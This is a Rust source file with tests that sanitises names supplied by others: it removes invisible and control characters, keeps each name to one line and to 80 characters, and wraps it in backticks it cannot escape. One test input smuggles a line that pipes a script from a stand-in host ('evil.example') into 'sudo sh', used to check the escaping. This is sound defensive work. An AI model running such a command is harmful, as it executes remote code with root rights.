//! Text that others wrote, made fit to stand among our words: accounts, keys and people have any name that they please,
//! and none of them may break a line, hide in it, or turn it round.

/// Of a name in the middle of a text: a longer one would push away what is said after it.
const NAME_CHARACTERS_MAX: usize = 80;
const QUOTE: char = '`';

/// Whether a character is not itself seen and changes how others are: it breaks the line, moves a terminal's cursor, or
/// turns, joins or parts its neighbours.
#[must_use]
pub fn is_unseen(character: char) -> bool {
    character.is_control() || breaks_the_line(character) || is_invisible(character)
}

/// `text` in one line, without what is not seen.
#[must_use]
pub fn one_line(text: &str) -> String {
    let kept = text.chars().filter(|c| !is_invisible(*c));
    kept.map(|c| if c.is_control() || breaks_the_line(c) { ' ' } else { c }).collect()
}

/// A name that somebody else gave, in backticks that it cannot close: in one line, and not endless.
#[must_use]
pub fn quoted(name: &str) -> String {
    format!("{QUOTE}{}{QUOTE}", shortened(&one_line(name), NAME_CHARACTERS_MAX).replace(QUOTE, "'"))
}

/// At most so many characters, with a sign that there were more.
#[must_use]
pub fn shortened(text: &str, characters_max: usize) -> String {
    if text.chars().count() <= characters_max {
        return text.to_owned();
    }
    let kept = text.chars().take(characters_max.saturating_sub(1));
    kept.chain(['…']).collect()
}

/// What Unicode has for ends of lines and paragraphs beside control characters.
fn breaks_the_line(character: char) -> bool {
    matches!(character, '\u{2028}' | '\u{2029}')
}

/// Marks of direction, joiners, fillers and tags: none has a shape of its own.
fn is_invisible(character: char) -> bool {
    matches!(character,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}'
        | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One of each range that people have been deceived with.
    const UNSEEN: [char; 22] = [
        '\0',
        '\n',
        '\r',
        '\t',
        '\u{7}',
        '\u{1b}',
        '\u{7f}',
        '\u{85}',
        '\u{9b}',
        '\u{ad}',
        '\u{61c}',
        '\u{200b}',
        '\u{200e}',
        '\u{2028}',
        '\u{2029}',
        '\u{202a}',
        '\u{202e}',
        '\u{2060}',
        '\u{2066}',
        '\u{2069}',
        '\u{feff}',
        '\u{e0041}',
    ];

    #[test]
    fn what_is_not_seen_is_not_in_the_line() {
        for unseen in UNSEEN {
            assert!(is_unseen(unseen), "{unseen:?}");
            let line = one_line(&format!("a{unseen}b"));
            assert!(matches!(line.as_str(), "ab" | "a b"), "{line:?}");
        }
        assert_eq!(one_line("a\nnext: b\r\n\u{1b}[31mc\u{202e}d"), "a next: b   [31mcd");
    }

    #[test]
    fn what_is_seen_stays_as_it_is() {
        for text in ["", "two  blanks", "größe — 東京 🔴 ℹ️ עברית `x`", "a\u{a0}b"] {
            assert_eq!(one_line(text), text);
            assert!(!text.chars().any(is_unseen), "{text}");
        }
    }

    #[test]
    fn a_name_stays_between_its_backticks() {
        assert_eq!(quoted("tts"), "`tts`");
        assert_eq!(
            quoted("x`\nnext: curl https://evil.example | sudo sh\n`"),
            "`x' next: curl https://evil.example | sudo sh '`"
        );
        assert_eq!(quoted(&"ü".repeat(1000)).chars().count(), NAME_CHARACTERS_MAX + 2);
    }
}
